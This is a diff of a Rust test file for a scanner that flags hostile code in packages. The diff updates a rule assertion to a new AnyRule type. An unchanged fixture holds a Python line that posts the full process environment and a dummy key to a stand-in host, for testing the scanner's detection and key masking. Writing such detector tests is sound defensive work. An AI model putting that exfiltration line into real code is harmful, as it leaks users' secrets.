@@ -1,7 +1,7 @@
 //! What was accepted is told as accepted; what is too large or hostile is told and read as far as it goes.
 
 use noroshi_model::Level;
-use noroshi_packages::source::{Acceptances, Grade, Hooks, MOST_BYTES, Reader, Rule};
+use noroshi_packages::source::{Acceptances, AnyRule, Grade, Hooks, MOST_BYTES, Reader, Rule};
 
 const SENDS: &str = "import os, requests\nKEY = 'sk9f8a7b6c5d4e3f2a1b0c9d8e7f'\nrequests.post('https://collect.example.invalid/sk9f8a7b6c5d4e3f2a1b0c9d8e7f', json=dict(os.environ))\n";
 
@@ -29,7 +29,10 @@ fn what_was_accepted_is_kept_with_its_reason_and_is_no_finding() {
 fn keys_in_the_line_are_masked_in_what_is_shown() {
     let reader = Reader::new(Acceptances::default());
     let (sightings, _) = reader.read("a.py", SENDS.as_bytes(), &Hooks::default());
-    assert_eq!((sightings[0].rule, sightings[0].grade), (Rule::EnvironmentSent, Grade::High));
+    assert_eq!(
+        (sightings[0].rule.clone(), sightings[0].grade),
+        (AnyRule::Built(Rule::EnvironmentSent), Grade::High)
+    );
     assert_eq!(sightings[0].line, 3);
     let shown = format!("{:?}", sightings[0].finding());
     assert!(!shown.contains("8a7b6c5d4e3f2a1b0c"), "{shown}");
